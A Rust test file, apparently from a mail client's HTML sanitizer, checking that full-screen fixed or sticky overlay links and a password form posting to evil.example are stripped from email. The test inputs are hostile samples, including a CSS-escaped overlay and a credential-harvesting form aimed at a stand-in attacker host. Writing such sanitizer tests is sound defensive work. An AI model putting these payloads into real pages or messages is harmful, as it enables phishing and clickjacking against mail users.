//! Pages that would cover others, or act.

use mailpane::html::article;

use super::{clean, fetchable, html};

/// V168.
#[test]
fn nothing_stays_in_place_over_other_mail() {
    for style in [
        "position:fixed;top:0;left:0;width:100%;height:100%",
        "POSITION : FIXED !important;inset:0",
        "position:\\66 ixed;inset:0",
        "position:sticky;top:0",
        "position:-webkit-sticky;top:0",
    ] {
        for page in [
            format!("<p>words</p><a href=https://evil.example/ style='{style}'>cover</a>"),
            format!("<style>a{{{style}}}</style><a href=https://evil.example/>cover</a>"),
        ] {
            let left = fetchable(&clean(&page)).to_ascii_lowercase();
            assert!(!left.contains("fixed") && !left.contains("sticky"), "{page}: {left}");
        }
    }
    let view = html::laid_out(
        "<p>words</p><a href=https://evil.example/ style='position:fixed;inset:0'>cover</a>",
        400.0,
    );
    // What stands outside of the page is cut by it: the page is all that is painted and clicked.
    let page = view.page();
    assert!(page.width <= 401.0 && page.height < 2_000.0, "{} {}", page.width, page.height);
}

/// V169.
#[test]
fn forms_are_pictures_of_forms() {
    let form = "<form action=https://evil.example/ method=post onsubmit=x()><input name=password>\
        <input type=submit formaction=https://evil.example/ value=Send><button formaction=x>Go</button>\
        <select name=a><option>one</select><textarea name=b>two</textarea></form>";
    let page = clean(form);
    for (id, _) in page.tree.walk() {
        let Some(element) = page.tree.element(id) else { continue };
        let is_field = matches!(element.local(), "input" | "button" | "select" | "textarea");
        assert!(!is_field, "{}", element.local());
        for name in ["action", "formaction", "method", "onsubmit"] {
            assert_eq!(element.attribute(name), None, "{name}");
        }
    }
    assert!(!fetchable(&page).contains("evil.example"));
    let view = html::laid_out(form, 400.0);
    assert!(view.page().links.is_empty(), "{:?}", view.page().links);
    assert!(html::text(&view).contains("Send"));
    let words = format!("{:?}", article(form));
    assert!(words.contains("Send") && !words.contains("evil.example"), "{words}");
}
